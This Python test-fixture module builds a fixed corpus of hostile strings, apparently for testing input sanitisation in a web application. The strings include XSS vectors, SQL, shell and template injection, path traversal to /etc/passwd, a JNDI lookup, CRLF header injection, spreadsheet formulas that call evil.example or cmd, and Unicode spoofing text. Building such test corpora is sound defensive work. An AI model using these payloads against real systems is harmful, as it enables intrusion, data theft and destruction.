"""Texts that want to be more than text: made from a few seeds, the same on every run.

Each piece of markup has the attribute ``canary``, each script sets ``window.canary`` and opens a dialog, each address
is at ``evil.example``: so whoever reads a page sees at once whether one of them got through.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Final

SCRIPT: Final = "window.canary=1;alert(1)"
HOST: Final = "evil.example"

_ELEMENTS: Final = (
    f"<script canary>{SCRIPT}</script>",
    f"<ScRiPt canary>{SCRIPT}</sCrIpT >",
    f"<script canary src=//{HOST}/x.js></script>",
    f"<img canary src=x onerror={SCRIPT}>",
    f"<img canary src=//{HOST}/pixel.gif>",
    f"<img/canary/src=`x`onerror={SCRIPT}>",
    f"<svg canary onload={SCRIPT}>",
    f"<svg canary><script>{SCRIPT}</script></svg>",
    f"<svg canary><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg canary><use href=//{HOST}/x.svg#y>",
    f"<math canary><mtext><table><mglyph><style><img src=x onerror={SCRIPT}>",
    "<math canary><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    f"<style canary>body{{background:url(//{HOST}/css)}}</style>",
    f"<style canary>@import '//{HOST}/x.css';*{{display:none!important}}</style>",
    f"<link canary rel=stylesheet href=//{HOST}/x.css>",
    f"<meta canary http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<base canary href=//{HOST}/>",
    f"<iframe canary src=//{HOST}/></iframe>",
    f"<iframe canary srcdoc='<script>{SCRIPT}</script>'></iframe>",
    f"<object canary data=//{HOST}/x.swf></object>",
    f"<embed canary src=//{HOST}/x.swf>",
    f"<form canary action=//{HOST}/><button>Sign in</button></form>",
    f"<input canary autofocus onfocus={SCRIPT}>",
    f"<button canary formaction=//{HOST}/ name=do value=approve>Approve</button>",
    f"<details canary open ontoggle={SCRIPT}>",
    f"<body canary onload={SCRIPT}>",
    f"<video canary><source onerror={SCRIPT}></video>",
    f"<audio canary src=x onerror={SCRIPT}>",
    f"<a canary href=javascript:{SCRIPT}>look</a>",
    f"<a canary href=//{HOST}/ target=_blank>look</a>",
    f"<marquee canary onstart={SCRIPT}>x</marquee>",
    "<div canary style='position:fixed;inset:0;background:red'>x</div>",
    f"<div canary hx-get=//{HOST}/ hx-trigger=load>x</div>",
    f"<template canary><script>{SCRIPT}</script></template>",
    f"<noscript canary><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<textarea canary></textarea><img canary src=x onerror={SCRIPT}>",
    f"<plaintext canary><xmp canary><listing canary>{SCRIPT}",
    f"<custom-canary canary></custom-canary><portal canary src=//{HOST}/>",
    f"&lt;script canary&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;img canary src=x onerror={SCRIPT}&#62;",
    f"\u003cscript canary\u003e{SCRIPT}",
    f"＜script canary＞{SCRIPT}＜/script＞",
    f"<<script canary>{SCRIPT}//<</script>",
    f"<!--><img canary src=x onerror={SCRIPT}>-->",
    f"<![CDATA[<img canary src=x onerror={SCRIPT}>]]>",
    f"<?xml version='1.0'?><canary canary/><!DOCTYPE x [<!ENTITY y SYSTEM 'http://{HOST}/'>]>&y;",
    f"<canary-{'a' * 200} canary>",
    "<canary",
    "</canary canary",
)
_WAYS_OUT: Final = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "--!>",
    "]]>",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "</bdi></td></table></form>",
    '\\">',
)
_ATTRIBUTES: Final = (
    f"canary onmouseover={SCRIPT}",
    f"canary autofocus onfocus={SCRIPT} tabindex=1",
    "canary style=animation-name:x",
    "canary formaction=javascript:alert(1)",
)
_QUOTES: Final = ('"', "'", "`", '\\"', "\\'", "&quot;", "&#39;", "%22", '"/', "\u2019", "\uff02")
_ADDRESSES: Final = tuple(
    before + scheme + after
    for scheme, after in (
        ("javascript:", SCRIPT),
        ("JaVaScRiPt:", SCRIPT),
        ("java\tscript:", SCRIPT),
        ("java\nscript:", SCRIPT),
        ("javascript&colon;", SCRIPT),
        ("&#106;avascript:", SCRIPT),
        ("data:text/html,", f"<script canary>{SCRIPT}</script>"),
        ("data:text/html;base64,", "PHNjcmlwdCBjYW5hcnk+YWxlcnQoMSk8L3NjcmlwdD4="),
        ("vbscript:", "msgbox(1)"),
        ("feed:javascript:", SCRIPT),
        ("blob:", f"https://{HOST}/x"),
        ("file:///", "etc/passwd"),
        ("//", HOST),
        ("\\\\", HOST),
        ("http://", f"user:pw@{HOST}"),
        ("https://", f"{HOST}/\u202e{SCRIPT}"),
        ("https://", f"[::1]@{HOST}/'onclick='{SCRIPT}"),
    )
    for before in ("", " ", "\x01", "\u00a0")
)
_TEMPLATES: Final = tuple(
    form % inside
    for form in ("{{%s}}", "{%% print(%s) %%}", "${%s}", "#{%s}", "<%%= %s %%>", "{{{%s}}}", "{%% raw %%}{{%s}}")
    for inside in ("7*7", "config", "''.__class__.__mro__", "request.application.__globals__", "cycler.__init__")
)
_CONTEXTS: Final = (
    "</script><script canary>alert(1)</script>",
    '"};alert(1);{"',
    "';alert(1);//",
    "`+alert(1)+`",
    '\\";alert(1)//',
    "*/alert(1)/*",
    "\u2028alert(1)\u2029",
    "\u2028</script>\u2029",
    ')]}\',\n{"a":1}',
    '{"__proto__":{"canary":1}}',
    "x}} body{background:red} {{",
    "expression(alert(1))",
    f"url(//{HOST}/)",
    f"}};@import'//{HOST}/x.css';{{",
)
_COMMANDS: Final = (
    "' OR '1'='1",
    "'; DROP TABLE comments; --",
    '" UNION SELECT digest FROM api_keys --',
    "1); DELETE FROM users; --",
    "\\'; SELECT pg_sleep(9); --",
    "%' ESCAPE '",
    "%_%_%_%",
    "$$; $(touch /tmp/canary); `id`",
    "|| ping -c 1 evil.example ||",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/desk/../../canary",
    "C:\\canary\\nul",
    "%s%s%s%n%n%x",
    "{0.__class__.__init__.__globals__}",
    "%(name)s %(num)d {name!r:>99999}",
    "\r\nSet-Cookie: canary=1\r\n\r\n<script canary>alert(1)</script>",
    "%0d%0aLocation:%20//evil.example",
    "\r\nX-Canary: 1",
    "${jndi:ldap://evil.example/x}",
    "(&(uid=*))(|(uid=*",
    "' or count(/*)=1 or ''='",
    "(a+)+$",
    "(?:x{1,1000}){1,1000}",
    "\\",
    "\\\\\\",
    "'",
    '"',
    "`",
    "<",
    ">",
    "&",
    "&amp;&lt;&gt;&quot;",
    "<>\"'&",
    "NULL",
    "undefined",
    "NaN",
    "-1",
    "1e309",
    "0x7fffffffffffffff",
    "true",
    "[object Object]",
)
_FORMULAS: Final = tuple(
    before + formula
    for before in ("", " ", "\t", "\r", "\n", '"', "'", "\ufeff", "＝")
    for formula in (
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        '=DDE("cmd";"/C calc";"x")',
    )
)
_CONTROLS: Final = (
    "\u202egnp.exe",
    "\u202e" * 50 + "abc",
    "\u2066\u2067\u2068abc\u2069",
    "\u200f\u200eabc",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "\u00ad".join("casino"),
    "\u034f".join("casino"),
    "\U000e0041\U000e0042\U000e007f",
    "\ufff9a\ufffab\ufffb",
    "\ufffe\uffff\U0010ffff",
    "\x01\x02\x07\x08\x0b\x0c\x0e\x1b\x7f\x80\x9f",
    "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H\x1b]0;canary\x07",
    "\x9b31m\x90canary\x9c",
    "line\x85line\x0bline\x0cline",
    "\u2028\u2029",
    "مرحبا بالعالم هذا تعليق طويل",
    "שלום עולם \u202d123\u202c",
    "سلام <script canary>alert(1)</script> שלום",
    "Ｃａｓｉｎｏ",
    "раураl.com аррӏе.com",
    "ⓒⓐⓢⓘⓝⓞ 𝓬𝓪𝓼𝓲𝓷𝓸 🅲🅰🆂🅸🅽🅾",
    "\u0149\ufb03\u01c4\u1e9e\u0130\u0131",
    "Z" + "\u0353\u0489\u0334\u0321" * 60 + "algo",
    "\u0e49" * 200,
    "👨‍👩‍👧‍👦🏳️‍🌈👩🏽‍🚀🇩🇪",
    "👍" * 500,
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "1️⃣\ufe0f\ufe0e\u20e3",
    "﷽" * 40,
    "𒐫" * 40,
    "W" * 3_000,
    "i" * 3_000 + "\u00ad",
    "\u00a0" * 500,
    "\n" * 500,
    "\t" * 300,
    " " * 500 + "x",
    "-" * 1_000,
    "https://" + "a" * 900 + ".example/",
    "x.y" * 700,
)
_LONG: Final = (
    "<b canary>" * 6_500,
    '"' * 65_536,
    "&lt;" * 16_384,
    "M" * 65_536,
    "\u202e" * 65_536,
    "a\u0301" * 32_768,
    "=1+1\n" * 13_107,
)
#: What no field takes, as JSON: half of a pair, and NUL.
REFUSED: Final = tuple(
    before + bad + after
    for bad in ("\\ud800", "\\udfff", "\\udc00\\ud83d", "\\u0000")
    for before, after in (("", ""), ("a", "b"), ("<script>", "</script>"))
)


def _made() -> Iterator[str]:
    yield from (way + element for way in _WAYS_OUT for element in _ELEMENTS[:: 1 if not way else 4])
    yield from (f"x{quote} {attribute} y={quote}" for quote, attribute in itertools.product(_QUOTES, _ATTRIBUTES))
    yield from _ADDRESSES
    yield from (f"[look]({address})" for address in _ADDRESSES[:12])
    yield from (f'<a canary href="{address}">look</a>' for address in _ADDRESSES[::2])
    yield from _TEMPLATES
    yield from _CONTEXTS
    yield from _COMMANDS
    yield from _FORMULAS
    yield from _CONTROLS
    yield from (f"{element}{control}" for element, control in zip(_ELEMENTS, itertools.cycle(_CONTROLS[:16])))


#: Fit for a line as well as for a text.
PAYLOADS: Final = tuple(dict.fromkeys(_made()))
#: As long as a text may be; nothing for a line.
TEXTS: Final = (*PAYLOADS, *_LONG)
